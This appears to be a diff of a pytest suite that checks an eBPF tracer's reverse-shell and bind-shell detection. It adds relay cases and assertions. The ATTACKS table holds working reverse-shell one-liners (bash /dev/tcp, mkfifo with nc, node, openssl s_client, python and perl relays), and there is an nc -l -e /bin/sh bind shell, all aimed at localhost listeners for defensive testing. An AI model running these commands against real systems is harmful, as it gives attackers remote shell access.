@@ -31,10 +31,6 @@ from conftest import Tracer, in_container
 
 PY = "/usr/bin/python3"
 
-RELAY = ("relay: no socket reaches the shell's stdio (pipes or a FIFO), another process holds "
-         "it; exec events carry the pipe/FIFO inodes (process.stdio) but the kernel does not yet "
-         "track which processes hold each end (issue 15, relay detection)")
-
 # name -> (command with {h} host and {p} port, xfail reason or None)
 ATTACKS = {
     "bash -i >& /dev/tcp": ("bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1'", None),
@@ -73,17 +69,25 @@ ATTACKS = {
         None),  # the sys_dup rule: matchReturnArgs InRange 0:2
     "mkfifo relay (sh -i <f | nc >f)": (
         "cd $(mktemp -d) && mkfifo f && (sh -i < f 2>&1 | nc.traditional -q 1 {h} {p} > f); rm -rf $PWD",
-        "no socket ever reaches the shell's stdio (FIFO and pipe): needs exec events carrying "
-        "the types of fd 0-2 plus pipe/FIFO peer tracking (a tcp_connect from a process whose "
-        "stdout is a FIFO read by a shell), or FileType on dup2's fd to see a shell put a FIFO "
-        "on stdio; the fifo preset reports the mkfifo"),
+        None),  # the relay rule: nc connects last, its fds hold the pipe and the FIFO
     "nc | sh | nc relay (two pipes)": (
         "nc.traditional -q 1 {h} {p} </dev/null | sh 2>&1 | nc.traditional -q 1 {h} {p} >/dev/null",
-        RELAY),
+        None),
     "node spawn(sh) piped to net.Socket": (
         "node -e 'const s=require(\"net\").connect({p},\"{h}\"),c=require(\"child_process\")"
         ".spawn(\"/bin/sh\");s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on(\"exit\","
-        "()=>s.destroy())'", RELAY),
+        "()=>s.destroy())'", None),  # libuv: socketpairs, and the connect after the spawn
+    "openssl s_client FIFO relay (TLS)": (
+        "cd $(mktemp -d) && mkfifo f && (sh -i < f 2>&1 | openssl s_client -quiet -connect {h}:{p} "
+        "> f 2>/dev/null); rm -rf $PWD", None),
+    "python Popen(PIPE) relay after connect": (
+        PY + " -c 'import socket,subprocess,threading\n"
+        "s=socket.create_connection((\"{h}\",{p}))\n"
+        "c=subprocess.Popen([\"/bin/sh\",\"-i\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,"
+        "stderr=subprocess.STDOUT)\n"
+        "def up():\n while (d:=s.recv(4096)): c.stdin.write(d); c.stdin.flush()\n c.stdin.close()\n"
+        "threading.Thread(target=up,daemon=True).start()\n"
+        "while (d:=c.stdout.read1(4096)): s.sendall(d)'", None),  # the exec scans the connected parent
     "bash -i >& /dev/udp (UDP)": ("bash -c 'bash -i >& /dev/udp/{h}/{p} 0>&1'", None),
     "perl IO::Socket, system $_ while <>": (
         "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"{h}:{p}\");"
@@ -110,14 +114,31 @@ BENIGN = {
     "curl download piped into sh (curl | sh)": ("curl -s -m 5 http://{h}:{p}/x.sh | sh", None),
     "client piping received bytes into tr": (
         "nc.traditional -q 1 {h} {p} </dev/null | tr a-z A-Z >/dev/null", None),
+    # one direction of a relay only: not a reverse shell
+    "network into a shell, output local (nc | sh)": (
+        "nc.traditional -q 1 {h} {p} </dev/null | sh >/dev/null 2>&1", None),
+    "shell output into nc, input local (sh | nc)": (
+        "echo id | sh 2>&1 | nc.traditional -q 1 {h} {p}", None),
+}
+
+# relay attacks: the process expected to relay the shell's stdin (its
+# binary's basename), named by the event's input_relay arguments
+RELAYS = {
+    "mkfifo relay (sh -i <f | nc >f)": "nc.traditional",
+    "nc | sh | nc relay (two pipes)": "nc.traditional",
+    "node spawn(sh) piped to net.Socket": "node",
+    "openssl s_client FIFO relay (TLS)": "openssl",
+    "python Popen(PIPE) relay after connect": "python3",
 }
 
 HTTP_CASES = {"curl download (http.server)", "wget download (http.server)",
               "curl download piped into sh (curl | sh)"}
 UDP_CASES = {"bash -i >& /dev/udp (UDP)"}
+TLS_CASES = {"openssl s_client FIFO relay (TLS)"}
 # benign clients that send: the listener must have received their bytes
 SENDERS = {"pipeline into nc (echo | nc)", "nc sending a file (nc < file)",
-           "python socket reader into a file", "inetd-style server: accepted socket on cat's stdio"}
+           "python socket reader into a file", "inetd-style server: accepted socket on cat's stdio",
+           "shell output into nc, input local (sh | nc)"}
 
 
 class CaseDidNotRun(Exception):
@@ -138,6 +159,32 @@ open(os.path.join(sys.argv[3], "ready"), "w").close()
 n = 0
 try:
     c, _ = s.accept(); c.settimeout(3)
+    rec.write("accepted\n")
+    c.sendall(b"id\nexit\n")
+    t0 = time.time()
+    while time.time() - t0 < 4:
+        d = c.recv(4096)
+        if not d:
+            break
+        n += len(d)
+except OSError:
+    pass
+rec.write(f"received {n}\n")
+'''
+
+# The same contract over TLS (argv adds the certificate and key): the
+# record says "accepted" only after the handshake.
+TLS_LISTENER = r'''
+import os, socket, ssl, sys, time
+rec = open(os.path.join(sys.argv[3], "record"), "a", buffering=1)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[4], sys.argv[5])
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(2); s.settimeout(12)
+open(os.path.join(sys.argv[3], "ready"), "w").close()
+n = 0
+try:
+    c, _ = s.accept(); c.settimeout(3)
+    c = ctx.wrap_socket(c, server_side=True)
     rec.write("accepted\n")
     c.sendall(b"id\nexit\n")
     t0 = time.time()
@@ -212,9 +259,23 @@ def cases():
     return out
 
 
+def tls_cert():
+    """A self-signed certificate for the TLS listener, made once."""
+    crt, key = os.path.join(WORK, "tls.crt"), os.path.join(WORK, "tls.key")
+    if not os.path.exists(crt):
+        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
+                        "-nodes", "-subj", "/CN=localhost", "-days", "1", "-keyout", key, "-out", crt],
+                       check=True, capture_output=True)
+    return crt, key
+
+
 def server_cmd(name, h, p, d):
     code = HTTP_LISTENER if name in HTTP_CASES else UDP_LISTENER if name in UDP_CASES else LISTENER
-    return f"{PY} -c {shlex.quote(code)} {h} {p} {d} >/dev/null 2>&1"
+    extra = ""
+    if name in TLS_CASES:
+        code = TLS_LISTENER
+        extra = " ".join(tls_cert())
+    return f"{PY} -c {shlex.quote(code)} {h} {p} {d} {extra} >/dev/null 2>&1"
 
 
 def run_case(kind, name, where, cmd, h="127.0.0.1", h6="::1"):
@@ -289,10 +350,30 @@ def campaign():
             runs[(kind, name, where)] = run_case(kind, name, where, cmd)
     shutil.rmtree(WORK, ignore_errors=True)
     evs = tr.events()
+    execs = {}
+    for e in evs:
+        p = e.get("process_exec", {}).get("process")
+        if p:
+            execs.setdefault(p["pid"], set()).add(os.path.basename(p.get("binary", "")))
     res = {}
     for key, how in runs.items():
-        res[key] = {"events": [e for e in evs if named(e, how["port"])], "how": how}
+        res[key] = {"events": [e for e in evs if named(e, how["port"])], "how": how, "execs": execs}
     return res
+
+
+def relay_checks(name, evs, execs):
+    """A relay attack's event is the relay rule's, names the relaying
+    process (its pid exec'd the expected binary) and its remote port."""
+    want = RELAYS[name]
+    rel = [e["process_kprobe"] for e in evs if e["process_kprobe"].get("function_name") == "pipe_relay"]
+    assert rel, f"{name}: no relay event"
+    args = {a.get("label"): a for a in rel[0]["args"]}
+    assert args["input_relay"].get("string_arg", "").startswith(want[:15]), args["input_relay"]
+    for side in ("input", "output"):
+        pid = args[f"{side}_relay_pid"]["int_arg"]
+        ran = execs.get(pid, set())
+        assert any(b.startswith(want) for b in ran), f"{name}: {side} relay pid {pid} ran {ran}"
+    assert os.path.basename(rel[0]["process"]["binary"]) in ("dash", "sh", "bash"), rel[0]["process"]
 
 
 def params():
@@ -311,8 +392,51 @@ def test_case(campaign, kind, name, where):
         assert evs, f"{name} on the {where} not detected"
         scopes = {e["process_kprobe"]["process"]["ns"]["pid"].get("is_host", False) for e in evs}
         assert (where == "host") in scopes, f"events carry is_host={scopes} for the {where}"
+        if name in RELAYS:
+            relay_checks(name, evs, campaign[(kind, name, where)]["execs"])
     else:
         assert not evs, f"{name} on the {where} flagged: " + json.dumps(evs[0])[:300]
+
+
+# argv: host port. Connects to a bind shell (retrying until it listens),
+# runs id, prints what came back.
+BIND_CLIENT = r'''
+import socket, sys, time
+for i in range(100):
+    try:
+        c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); break
+    except OSError:
+        time.sleep(0.05)
+c.sendall(b"id\nexit\n"); out = b""
+try:
+    while (d := c.recv(4096)):
+        out += d
+except OSError:
+    pass
+print(out.decode(errors="replace"))
+'''
+
+
+@pytest.mark.parametrize("where", ["host", "container"])
+def test_bind_shell(where):
+    """A listener handing a shell to whoever connects (nc -l -e /bin/sh) is a
+    bind shell, with its own message naming the listening port; the
+    client proves the shell ran (id's output came back)."""
+    p = port()
+    script = (f"timeout 10 nc.traditional -l -s 127.0.0.1 -p {p} -e /bin/sh & "
+              f"{PY} -c {shlex.quote(BIND_CLIENT)} 127.0.0.1 {p}; wait")
+    with Tracer("-o", "json", "-P", "reverse-shell") as tr:
+        if where == "host":
+            out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=30).stdout
+        else:
+            out = in_container(script).stdout.decode(errors="replace")
+    if "uid=" not in out:
+        raise CaseDidNotRun(f"bind shell on the {where}: no id output came back: {out!r}")
+    evs = [e["process_kprobe"] for e in tr.events() if e.get("process_kprobe", {}).get("function_name") == "bind_shell"]
+    mine = [b for b in evs if b["args"][0]["sock_arg"].get("sport") == p]
+    assert mine, f"bind shell on the {where} not reported: {evs[:1]}"
+    assert mine[0]["message"].startswith("shell started on an accepted network socket")
+    assert mine[0]["process"]["ns"]["pid"].get("is_host", False) == (where == "host")
 
 
 def table(campaign):
